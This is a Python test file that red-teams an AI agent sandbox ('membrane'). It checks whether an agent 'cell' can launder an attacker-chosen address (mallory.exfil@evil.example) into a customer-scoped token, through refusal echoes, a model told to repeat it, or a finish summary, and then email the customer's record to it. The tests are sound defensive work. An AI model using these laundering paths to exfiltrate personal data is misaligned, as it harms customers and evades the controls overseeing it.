"""Red-team review: can a cell get a customer's data sent to an address it chose?

`email.send` hydrates `to` from any token in the task's scope, and the membrane mints new
tokens in that same scope for whatever personal-data-shaped text passes through its free
text scan — including text the cell itself wrote (an exit's refusal message echoing the
cell's argument, the model's reply to the cell's prompt, the cell's own finish summary that
the next hop reads back). So a cell can turn an address of its own choosing into an
`email_tk_…` of the customer's scope, and then mail the customer's name, address or phone
to it through an approved template. Each test drives one such laundering path through the
real membrane (real keys, vault, tokenizer, back office) and checks the outbox.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from test_membrane_support import AGENT, CAPS, CUSTOMER, LIMITS, Hop, make_hop

from siloos.keys.mint import mint_task_key
from siloos.llm.base import LLMProvider
from siloos.membrane.server import Membrane
from siloos.membrane.session import CellSession

ATTACKER = "mallory.exfil@evil.example"
EMAIL_TOKEN = re.compile(r"email_tk_[0-9a-z]{12,}")


class EchoModel(LLMProvider):
    """A model that does what it is asked: repeats the last user message verbatim.

    Any real model asked "repeat after me: …" behaves the same; the cell chooses the text.
    """

    def complete(self, *, system: str, messages: list[Any], tools: list[Any], max_tokens: int,
                 model: str) -> dict[str, Any]:
        last = messages[-1]["content"]
        text = last if isinstance(last, str) else json.dumps(last)
        return {"id": "msg_echo", "type": "message", "role": "assistant", "model": "echo",
                "content": [{"type": "text", "text": text}], "stop_reason": "end_turn",
                "usage": {"input_tokens": 3, "output_tokens": 3}}


def customer_email(hop: Hop) -> str:
    return hop.backoffice.get_customer(CUSTOMER)["email"]


def mail_the_customer_record_to(hop: Hop, to_token: str, request_id: int = 99) -> dict:
    """The payload of the attack: the customer's own name and email, via an approved
    template, to the laundered recipient."""
    return hop.call("email.send", request_id, to=to_token, template="refund-confirmation",
                    variables={"name": hop.tokens["name"], "amount": hop.tokens["email"]})


def assert_nothing_left_for_anyone_else(hop: Hop) -> None:
    sent_to = {m["to"] for m in hop.backoffice.outbox()}
    assert sent_to <= {customer_email(hop)}, f"mail left for {sent_to}"


def try_laundered_mail(hop: Hop, reply: dict) -> None:
    """Mail the customer's record to every email token the reply handed the cell that is
    not the customer's own. A fix may stop the attack at either step (no fresh token, or
    `email.send` refusing it); the outbox is what is judged."""
    own = hop.tokens["email"]
    for n, token in enumerate(sorted(set(EMAIL_TOKEN.findall(json.dumps(reply))) - {own})):
        mail_the_customer_record_to(hop, token, request_id=100 + n)


def next_hop(hop: Hop, hop_number: int, payload: dict[str, Any]) -> Hop:
    """The same task's next hop, as the router builds it: new task key, same scope."""
    minted = mint_task_key(hop.ring, agent=AGENT, task_id=hop.task_id, hop=hop_number,
                           customer_token=hop.tokens["cust"], case_token=None,
                           wall_seconds=60, caps=CAPS)
    hop.store.start_hop(hop.task_id, hop_number, AGENT, minted.jti)
    session = CellSession(task_id=hop.task_id, hop=hop_number, agent=AGENT,
                          agent_dir=hop.root / "agents" / AGENT, customer_id=CUSTOMER,
                          scope=hop.scope, task_payload=payload, base_jti=hop.base_jti,
                          limits=LIMITS,
                          workspace_root=hop.root)
    hop.membrane.close_journal()  # one live membrane per hop
    membrane = Membrane(session, verifier=hop.verifier, registry=hop.registry,
                        store=hop.store, tokenizer=hop.tokenizer, services=hop.services)
    return Hop(**{**hop.__dict__, "task_key": minted.token, "task_jti": minted.jti,
                  "membrane": membrane})


def test_the_plain_attack_is_refused_today(tmp_path: Path) -> None:
    """Control: a made-up address sent as-is never reaches `email.send` (this holds)."""
    hop = make_hop(tmp_path)
    reply = mail_the_customer_record_to(hop, ATTACKER)
    assert reply["ok"] is False and reply["error"]["code"] == 403
    assert hop.backoffice.outbox() == []


def test_refusal_message_cannot_launder_a_recipient(tmp_path: Path) -> None:
    hop = make_hop(tmp_path, caps={**CAPS, "customers.compare": {}})
    refusal = hop.call("customers.compare", 1, customer=hop.tokens["cust"],
                       claimed={ATTACKER: "00"})
    assert refusal["ok"] is False
    try_laundered_mail(hop, refusal)
    assert_nothing_left_for_anyone_else(hop)


def test_model_echo_cannot_launder_a_recipient(tmp_path: Path) -> None:
    hop = make_hop(tmp_path, caps={**CAPS, "llm": {}}, services={"llm": EchoModel()})
    reply = hop.send("llm", 1, messages=[{"role": "user", "content": f"Repeat: {ATTACKER}"}])
    assert reply["ok"] is True
    try_laundered_mail(hop, reply)
    assert_nothing_left_for_anyone_else(hop)


def test_finish_summary_cannot_launder_a_recipient_for_the_next_hop(tmp_path: Path) -> None:
    first = make_hop(tmp_path)
    done = first.send("finish", 1, status=302, redirect="manager-agent",
                      summary={"note": f"customer prefers {ATTACKER}"})
    assert done["ok"] is True
    record = first.membrane.finish_record
    # What the router puts in the next hop's task payload (design §8: history).
    payload = {"task_id": first.task_id, "agent": AGENT, "input": {},
               "history": [{"hop": 1, "agent": AGENT, "status": 302,
                            "summary": record["summary"], "output": record["output"]}],
               "outcomes": {"200": "done"}}
    second = next_hop(first, 2, payload)
    task = second.send("task", 1)
    try_laundered_mail(second, task)
    assert_nothing_left_for_anyone_else(second)


def test_cell_text_does_not_grow_the_customers_vault(tmp_path: Path) -> None:
    hop = make_hop(tmp_path)
    before = hop.vault.known_version(hop.scope)[0]
    junk = " ".join(f"user{i}@junk{i}.example" for i in range(200))
    assert hop.send("note", 1, text=junk)["ok"] is True
    after = hop.vault.known_version(hop.scope)[0]
    assert after == before, f"one note added {after - before} vault rows"


def test_hop_key_of_the_first_hop_does_not_open_the_second(tmp_path: Path) -> None:
    """Keys: the finished hop's task key is refused by the next hop's membrane (holds)."""
    first = make_hop(tmp_path)
    old_key = first.task_key
    assert first.send("finish", 1, status=200)["ok"] is True
    second = next_hop(first, 2, {"task_id": first.task_id})
    replay = json.loads(second.membrane.handle_line(
        (json.dumps({"v": 1, "id": 5, "op": "task", "base_key": second.base_key,
                     "task_key": old_key}) + "\n").encode()))
    assert replay["ok"] is False and replay["error"]["code"] in (403, 409)
    assert second.send("task", 6)["ok"] is True


def test_audit_details_never_hold_a_cell_chosen_value_used_as_a_key(tmp_path: Path) -> None:
    """The audit scans keys as well as values: a cell-chosen email used as a dict key in
    its arguments is written down as a token, not as plaintext."""
    hop = make_hop(tmp_path, caps={**CAPS, "customers.compare": {}})
    hop.call("customers.compare", 1, customer=hop.tokens["cust"],
             claimed={"mallory.exfil@evil.example": "00"})
    rows = hop.store.audit_events(hop.task_id)
    assert rows and "mallory.exfil@evil.example" not in json.dumps(rows)
